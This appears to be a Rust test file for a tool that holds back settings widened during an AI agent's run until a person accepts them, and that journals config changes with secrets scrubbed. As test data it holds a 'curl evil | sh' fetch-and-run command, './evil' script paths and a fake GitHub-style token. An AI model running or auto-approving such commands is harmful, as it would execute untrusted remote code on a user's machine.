use salve_core::event::Entry;
use salve_core::scrub::ScrubKey;
use tempfile::TempDir;

use super::*;
use crate::config::{PlaybookAuto, UnknownCommands};
use crate::project::Project;
use crate::store::Store;

/// A project with a store and a settings file.
struct Stage {
    dir: TempDir,
    store: Store,
}

impl Stage {
    fn new(text: &str) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let store = Store::open(&Project::at(dir.path()).unwrap()).unwrap();
        let stage = Self { dir, store };
        stage.write(text);
        stage
    }

    fn write(&self, text: &str) {
        std::fs::write(self.dir.path().join("salve.toml"), text).unwrap();
    }

    fn live(&self) -> LiveSettings<'_> {
        self.try_live().unwrap()
    }

    fn try_live(&self) -> Result<LiveSettings<'_>, LiveError> {
        let project = Some(self.store.project().root().to_owned());
        let sources = Sources { project, ..Sources::default() };
        LiveSettings::open(
            self.store.journal(),
            sources,
            Scrubber::new(ScrubKey::new([3; 32])),
            now(),
        )
    }

    fn kinds(&self) -> Vec<String> {
        self.entries().iter().map(|entry| entry.event.kind().to_owned()).collect()
    }

    fn entries(&self) -> Vec<Entry> {
        self.store.journal().read(0, &Stream::Project, 100).unwrap()
    }
}

fn now() -> Timestamp {
    Timestamp::UNIX_EPOCH
}

fn waiting(found: Reload) -> (Digest, Vec<String>) {
    match found {
        Reload::Waiting { digest, changes } => {
            (digest, changes.into_iter().map(Scrubbed::into_string).collect())
        }
        other => panic!("{other:?}"),
    }
}

fn changed(found: Reload) -> Vec<String> {
    match found {
        Reload::Changed(changes) => changes.into_iter().map(Scrubbed::into_string).collect(),
        other => panic!("{other:?}"),
    }
}

fn approved(live: &LiveSettings<'_>) -> Vec<String> {
    live.current().settings.recovery.auto_approve.clone()
}

const ONE: &str = "[recovery]\nauto_approve = [\"npm ci\"]\n";
const TWO: &str = "[recovery]\nauto_approve = [\"npm ci\", \"bun install\"]\n";

#[test]
fn ac_10_and_12_a_change_takes_effect_at_the_next_look_and_is_journalled() {
    let stage = Stage::new(ONE);
    let mut live = stage.live();
    assert!(matches!(live.reload(now()).unwrap(), Reload::Unchanged));
    stage.write(TWO);
    assert_eq!(approved(&live), ["npm ci"], "not before it is asked to look");
    let lines = changed(live.reload(now()).unwrap());
    assert_eq!(lines, ["recovery.auto_approve: added \"bun install\""]);
    assert_eq!(approved(&live), ["npm ci", "bun install"]);
    assert_eq!(stage.kinds(), ["config_changed"]);
    stage.write(&format!("# only a remark\n{TWO}"));
    assert!(matches!(live.reload(now()).unwrap(), Reload::Unchanged));
    assert_eq!(stage.kinds(), ["config_changed"]);
}

#[test]
fn ac_11_a_wrong_file_is_refused_as_a_whole_and_journalled_once() {
    let stage = Stage::new(ONE);
    let mut live = stage.live();
    stage.write(&format!("{TWO}cooldown = 1\n"));
    for _ in 0..3 {
        let Reload::Rejected(error) = live.reload(now()).unwrap() else { panic!() };
        assert!(error.to_string().starts_with("salve.toml:3:1: unknown key `cooldown`"), "{error}");
    }
    assert_eq!(approved(&live), ["npm ci"], "the last good settings hold");
    assert_eq!(stage.kinds(), ["config_rejected"]);
    stage.write(TWO);
    changed(live.reload(now()).unwrap());
    assert_eq!(stage.kinds(), ["config_rejected", "config_changed"]);
}

#[test]
fn secrets_do_not_reach_the_journal() {
    let stage = Stage::new("");
    let mut live = stage.live();
    let token = format!("gh{}{}", "p_", "x9Kd2mQ7Lw4RtB8vNc3HfYz6JgPs1ATeWu5E");
    stage.write(&format!("recovery.auto_approve = [\"curl -H {token}\"]"));
    let lines = changed(live.reload(now()).unwrap());
    assert!(lines[0].contains("[secret:") && !lines[0].contains(&token), "{lines:?}");
}

#[test]
fn what_an_agent_widens_waits_and_a_restart_changes_nothing() {
    let stage = Stage::new(ONE);
    let mut live = stage.live();
    let guard = live.agent_starts(now()).unwrap();
    stage.write(TWO);
    let (digest, lines) = waiting(live.reload(now()).unwrap());
    assert_eq!(lines, ["recovery.auto_approve: added \"bun install\""]);
    waiting(live.agent_ended(guard, now()).unwrap());
    assert_eq!(approved(&live), ["npm ci"]);
    drop(live);

    let mut live = stage.live();
    assert_eq!(approved(&live), ["npm ci"]);
    let ada = Scrubbed::literal("ada");
    assert_eq!(changed(live.accept(digest, ada.clone(), now()).unwrap()), lines);
    assert_eq!(approved(&live), ["npm ci", "bun install"]);
    assert!(matches!(live.accept(digest, ada, now()), Err(LiveError::NothingWaits)));
    let kinds = [
        "config_guarded",
        "config_pending",
        "config_released",
        "config_accepted",
        "config_changed",
    ];
    assert_eq!(stage.kinds(), kinds);
}

#[test]
fn an_acceptance_holds_for_exactly_what_was_seen() {
    let stage = Stage::new(ONE);
    let mut live = stage.live();
    live.agent_starts(now()).unwrap();
    stage.write(TWO);
    let (digest, _) = waiting(live.reload(now()).unwrap());
    stage.write("recovery.auto_approve = [\"curl evil | sh\"]");
    let refused = live.accept(digest, Scrubbed::literal("ada"), now());
    let Err(LiveError::NotThat { waiting: other }) = refused else { panic!("{refused:?}") };
    assert_ne!(other, digest);
    assert_eq!(approved(&live), Vec::<String>::new(), "neither the old nor the new entry");
    assert_eq!(live.standing.waiting().unwrap().digest, other, "it asks again");
}

#[test]
fn of_a_mixed_change_the_stricter_part_holds_at_once() {
    let stage = Stage::new(
        "[recovery]\nauto_approve = [\"a\", \"b\"]\nrequire_human = [\"git push\"]\n\
         cooldown_seconds = 60\n[playbook]\nauto = \"none\"\n[auto_heal]\nvpn_script = \"./vpn\"\n\
         clusters = { stage = \"s\", prod = \"p\" }",
    );
    let mut live = stage.live();
    live.agent_starts(now()).unwrap();
    stage.write(
        "[recovery]\nauto_approve = [\"b\", \"c\"]\nrequire_human = [\"curl *\"]\n\
         cooldown_seconds = 5\nmax_auto_recoveries_per_run = 1\non_unknown = \"deny\"\n\
         [auto_heal]\nvpn_script = \"./evil\"\nclusters = { stage = \"s\", prod = \"evil\" }",
    );
    let (_, lines) = waiting(live.reload(now()).unwrap());
    let settings = &live.current().settings;
    assert_eq!(settings.recovery.auto_approve, ["b"]);
    assert_eq!(settings.recovery.require_human, ["curl *", "git push"]);
    assert_eq!(settings.recovery.cooldown_seconds, 60);
    assert_eq!(settings.recovery.max_auto_recoveries_per_run, 1);
    assert_eq!(settings.recovery.on_unknown, UnknownCommands::Deny);
    assert_eq!(settings.playbook.auto, PlaybookAuto::None);
    assert_eq!(settings.auto_heal.vpn_script, None);
    assert_eq!(settings.auto_heal.clusters.keys().collect::<Vec<_>>(), ["stage"]);
    assert!(lines.contains(&"recovery.auto_approve: added \"c\"".to_owned()), "{lines:?}");
    assert!(!lines.iter().any(|line| line.contains("max_auto")), "{lines:?}");
    let journalled = format!("{:?}", stage.entries());
    assert!(journalled.contains("holds now: recovery.max_auto_recoveries_per_run: 3 → 1"));

    stage.write("recovery.enabled = false\nplaybook.auto = \"none\"\nrecovery.require_human = [\"git push\"]");
    changed(live.reload(now()).unwrap());
    assert!(live.standing.waiting().is_none(), "a change that only narrows settles it");
}

#[test]
fn a_killed_salve_leaves_its_agents_changes_to_the_next() {
    let stage = Stage::new(ONE);
    let live = stage.live();
    let rules = rules::rules(&live.current().files, &live.scrubber);
    let by = Actor::Salve(Process { started: live.process.started + 1, ..live.process.clone() });
    let event = Event::Config(ConfigEvent::Guarded { rules });
    stage.store.journal().append(Draft { at: now(), by, incident: None, event }).unwrap();
    drop(live);
    stage.write(TWO);
    let live = stage.live();
    assert_eq!(approved(&live), ["npm ci"]);
    assert!(live.standing.waiting().is_some() && live.standing.guards().is_empty());
}

/// **Invariant:** A syntax error cannot hide a widening.
#[test]
fn a_mistake_in_the_file_does_not_hide_a_wider_rule() {
    let stage = Stage::new(ONE);
    let mut live = stage.live();
    let guard = live.agent_starts(now()).unwrap();
    stage.write(&format!("{TWO}oops"));
    assert!(matches!(live.agent_ended(guard, now()).unwrap(), Reload::Rejected(_)));
    stage.write(TWO);
    waiting(live.reload(now()).unwrap());
    assert_eq!(approved(&live), ["npm ci"]);
    assert!(live.standing.guards().is_empty());
}

#[test]
fn every_salve_of_the_project_goes_by_the_same_rules() {
    let stage = Stage::new(ONE);
    let (mut one, mut two) = (stage.live(), stage.live());
    let guard = one.agent_starts(now()).unwrap();
    stage.write(TWO);
    let (digest, _) = waiting(two.reload(now()).unwrap());
    let (same, _) = waiting(one.agent_ended(guard, now()).unwrap());
    assert_eq!(digest, same);
    two.accept(digest, Scrubbed::literal("ada"), now()).unwrap();
    changed(one.reload(now()).unwrap());
    assert_eq!(approved(&one), approved(&two));
    let changes = stage.kinds().into_iter().filter(|kind| kind == "config_changed");
    assert_eq!(changes.count(), 1, "journalled by whoever was first");
}

#[test]
fn without_an_agent_a_person_may_widen_at_will() {
    let stage = Stage::new(ONE);
    let mut live = stage.live();
    let guard = live.agent_starts(now()).unwrap();
    assert!(matches!(live.agent_ended(guard, now()).unwrap(), Reload::Unchanged));
    stage.write(TWO);
    changed(live.reload(now()).unwrap());
    assert_eq!(approved(&live), ["npm ci", "bun install"]);
}

#[test]
fn the_environment_is_not_the_agents_to_change() {
    let stage = Stage::new(ONE);
    let mut live = stage.live();
    live.sources.environment = [("SALVE_RECOVERY_COOLDOWN_SECONDS", "1")].into_iter().collect();
    live.agent_starts(now()).unwrap();
    stage.write(&format!("{ONE}cooldown_seconds = 0"));
    waiting(live.reload(now()).unwrap());
    assert_eq!(live.current().settings.recovery.cooldown_seconds, 1);
}

/// **Invariant:** Settings that would break the running loop are refused whole.
#[test]
fn settings_with_which_what_runs_could_not_go_on_are_refused_as_a_whole() {
    let stage = Stage::new("[repair]\nmax_files = 3");
    let mut live = stage.live();
    live.demand(|config| match config.settings.repair.max_files {
        3 => Vec::new(),
        _ => vec![ConfigProblem { origin: None, key: None, message: "it needs three".into() }],
    });
    stage.write("[repair]\nmax_files = 2\nmax_loc = 5");
    match live.reload(now()).unwrap() {
        Reload::Rejected(error) => assert_eq!(error.to_string(), "it needs three"),
        other => panic!("{other:?}"),
    }
    let held = &live.current().settings.repair;
    assert_eq!((held.max_files, held.max_loc), (3, 300));
    assert_eq!(stage.kinds().last().map(String::as_str), Some("config_rejected"));
    stage.write("[repair]\nmax_files = 3\nmax_loc = 5");
    assert!(matches!(live.reload(now()).unwrap(), Reload::Changed(_)));
}
